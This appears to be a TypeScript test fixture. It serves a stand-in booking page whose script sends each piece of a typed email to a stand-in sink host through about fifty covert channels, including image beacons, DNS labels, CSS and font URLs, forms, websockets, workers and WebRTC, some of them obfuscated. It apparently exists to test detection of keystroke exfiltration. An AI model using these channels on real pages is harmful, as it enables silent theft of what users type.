import { type Answer, type StandIn, startStandIn } from './stand-in.ts'

export const keyByKeyUrl = 'https://page.keys.test/'
const sink = 'https://sink.keys.test'

/**
 * Ways to send what is typed in pieces that no look at one address can know for it. In each, `v` is the text so far and
 * `c` its last character; whatever is asked under /k/ or of a name under k.keys.test was made of keys. `$` stands for
 * the name of the way.
 */
export const pieceWays: Readonly<Record<string, string>> = {
  path: `fetch(sink + '/k/$/' + v, quietly).catch(quiet)`,
  query: `new Image().src = sink + '/k/$?v=' + encodeURIComponent(v)`,
  'host-label': `new Image().src = 'https://' + label(v) + '.$.k.keys.test/i.png'`,
  import: `import(sink + '/k/$/' + v + '.js').catch(quiet)`,
  'script-src': `add('script', { src: sink + '/k/$/' + v + '.js' })`,
  'seen-folder': `add('script', { src: sink + '/tags/k/$/' + v + '.js' })`,
  'seen-script': `add('script', { src: sink + '/tags/t.js?k=' + v })`,
  'css-url': `add('style', { textContent: '#bg { background: url("' + sink + '/k/$/' + v + '.png") }' })`,
  'css-import': `add('style', { textContent: '@import url("' + sink + '/k/$/' + v + '.css");' })`,
  stylesheet: `add('link', { rel: 'stylesheet', href: sink + '/k/$/' + v + '.css' })`,
  'font-face': `new FontFace('f', 'url("' + sink + '/k/$/' + v + '.woff")').load().catch(quiet)`,
  'unicode-range': `add('style', { textContent: '@font-face { font-family: r; src: url("' + sink + '/k/$/' + c + '.woff"); unicode-range: U+0-FFFF } #bg { font-family: r }' })`,
  'form-get': `submit('get', sink + '/k/$', v, 'into')`,
  'form-post': `submit('post', sink + '/k/$', v, 'other')`,
  'iframe-src': `add('iframe', { src: sink + '/k/$/' + v })`,
  'object-data': `add('object', { data: sink + '/k/$/' + v, type: 'image/svg+xml' })`,
  'video-src': `add('video', { src: sink + '/k/$/' + v + '.mp4', preload: 'auto' })`,
  'svg-image': `svg('image', sink + '/k/$/' + v + '.png')`,
  'svg-use': `svg('use', '/k/$/' + v + '.svg#a')`,
  salted: `new Image().src = sink + '/k/$?v=' + Array.from(v, function (x, i) { return (x.charCodeAt(0) * 31 + i * 7 + 5) % 997 }).join('.')`,
  xored: `new Image().src = sink + '/k/$?v=' + encodeURIComponent(Array.from(v, function (x) { return String.fromCharCode(x.charCodeAt(0) ^ 21) }).join(''))`,
  reversed: `new Image().src = sink + '/k/$/' + Array.from(v).reverse().join('')`,
  'one-character': `fetch(sink + '/k/$/' + c, quietly).catch(quiet)`,
  xhr: `var x = new XMLHttpRequest(); x.open('GET', sink + '/k/$?v=' + v); x.send()`,
  beacon: `navigator.sendBeacon(sink + '/k/$', v)`,
  'socket-frame': `if (socket.readyState === 1) socket.send(JSON.stringify({ piece: v }))`,
  'socket-address': `new WebSocket('wss://sink.keys.test/k/$/' + v)`,
  worker: `worker.postMessage(v)`,
  'shared-worker': `shared.port.postMessage(v)`,
  'service-worker': `navigator.serviceWorker.ready.then(function (r) { r.active.postMessage(v) })`,
  'worker-address': `new Worker('/k/$/' + v + '.js')`,
  'service-worker-address': `navigator.serviceWorker.register('/k/$/' + v + '.js').catch(quiet)`,
  navigation: `location.href = '/k/$/' + v`,
  'window-open': `window.open(sink + '/k/$/' + v)`,
  'meta-refresh': `add('meta', { httpEquiv: 'refresh', content: '0; url=' + sink + '/k/$/' + v })`,
  prefetch: `add('link', { rel: 'prefetch', href: sink + '/k/$/' + v })`,
  preload: `add('link', { rel: 'preload', as: 'image', href: sink + '/k/$/' + v })`,
  modulepreload: `add('link', { rel: 'modulepreload', href: sink + '/k/$/' + v + '.js' })`,
  preconnect: `add('link', { rel: 'preconnect', href: 'https://' + label(v) + '.$.k.keys.test' })`,
  'dns-prefetch': `add('link', { rel: 'dns-prefetch', href: '//' + label(v) + '.$.k.keys.test' })`,
  icon: `add('link', { rel: 'icon', href: sink + '/k/$/' + v + '.ico' })`,
  manifest: `add('link', { rel: 'manifest', href: '/k/$/' + v })`,
  speculation: `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['/k/$/' + v] }] }) })`,
  'event-source': `new EventSource(sink + '/k/$/' + v)`,
  'web-transport': `new WebTransport('https://' + label(v) + '.$.k.keys.test/').ready.catch(quiet)`,
  'stun-host': `var peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + label(v) + '.$.k.keys.test:443' }, { urls: 'turn:' + label(v) + '.$.k.keys.test:443?transport=tcp', username: v, credential: 'x' }] }); peer.createDataChannel('d'); peer.createOffer().then(function (o) { return peer.setLocalDescription(o) }).catch(quiet)`,
  download: `var a = add('a', { href: '/k/$/' + v, download: 'x' }); a.click()`,
  ping: `var p = add('a', { href: '#p', ping: sink + '/k/$/' + v }); p.click()`,
  worklet: `new AudioContext().audioWorklet.addModule(sink + '/k/$/' + v + '.js').catch(quiet)`,
  federated: `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + label(v) + '.$.k.keys.test/config.json', clientId: '1' }] } }).catch(quiet)`,
  'style-attribute': `document.querySelector('input').setAttribute('value', v); add('style', { textContent: 'input[value^="' + v[0] + '"] { background: url("' + sink + '/k/$/' + v[0] + '.png") }' })`,
}

const documentWith = (
  ways: ReadonlyArray<string>,
) => `<!doctype html><html lang="en"><head><title>Book a visit</title><script src="${sink}/tags/t.js"></script></head>
<body><h1>Book a visit</h1><p id="bg">We call you back.</p><label>Email <input name="email" type="email"></label><iframe name="into" src="/quiet"></iframe><iframe name="other" src="/quiet"></iframe>
<script>
var sink = ${JSON.stringify(sink)}, quiet = function () {}, quietly = { mode: 'no-cors' }
var worker = new Worker('/worker.js'), shared = new SharedWorker('/shared.js'), socket = new WebSocket('wss://sink.keys.test/socket')
navigator.serviceWorker.register('/service.js')
function label(v) { return v.toLowerCase().replace(/[^a-z0-9]/g, '-').slice(0, 60).replace(/^-|-$/g, '') || 'x' }
function add(name, values) { var e = Object.assign(document.createElement(name), values); document.body.append(e); return e }
function svg(name, href) { var s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), e = document.createElementNS('http://www.w3.org/2000/svg', name); e.setAttribute('href', href); s.append(e); document.body.append(s) }
function submit(method, action, v, target) { var f = add('form', { method: method, action: action, target: target }); f.append(Object.assign(document.createElement('input'), { name: 'v', value: v, type: 'hidden' })); f.submit() }
var ways = [${ways.map((name) => `function (v, c) { ${pieceWays[name]?.replaceAll('$', name)} }`).join(',\n')}]
var pieces = [1, 2, 3, 5, 8]
function all(v) { ways.forEach(function (way) { try { way(v, v.slice(-1)) } catch (e) {} }) }
document.querySelector('input').addEventListener('input', function (event) { if (pieces.includes(event.target.value.length)) all(event.target.value) })
document.querySelector('input').addEventListener('change', function (event) { if (event.target.value) all(event.target.value) })
</script></body></html>`

const scripts: Record<string, string> = {
  '/worker.js': `onmessage = (e) => { fetch('${sink}/k/worker/' + e.data, { mode: 'no-cors' }).catch(() => {}); try { importScripts('${sink}/k/importscripts/' + e.data + '.js') } catch (error) {} }`,
  '/shared.js': `onconnect = (c) => { c.ports[0].onmessage = (e) => fetch('${sink}/k/shared-worker/' + e.data, { mode: 'no-cors' }).catch(() => {}) }`,
  '/service.js': `onmessage = (e) => fetch('${sink}/k/service-worker/' + e.data, { mode: 'no-cors' }).catch(() => {})`,
}

/** What the page asks for before anything is typed; a server may hear of nothing else. */
export const beforeKeys = [
  '/',
  '/quiet',
  '/robots.txt',
  '/sitemap.xml',
  '/tags/t.js',
  '/socket',
  ...Object.keys(scripts),
]

const pageWith =
  (ways: ReadonlyArray<string>): Answer =>
  ({ path }, response) => {
    const send = (type: string, body: string) => void response.writeHead(200, { 'content-type': type }).end(body)
    if (path === '/') send('text/html', documentWith(ways))
    else if (path === '/quiet') send('text/html', '<p>Quiet</p>')
    else if (scripts[path] !== undefined) send('text/javascript', scripts[path])
    else response.writeHead(404).end()
  }

const tags: Answer = (_request, response) =>
  void response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('')

export function startKeyByKeySite(ways: ReadonlyArray<string> = Object.keys(pieceWays)): Promise<StandIn> {
  return startStandIn({ 'page.keys.test': pageWith(ways), 'sink.keys.test': tags })
}
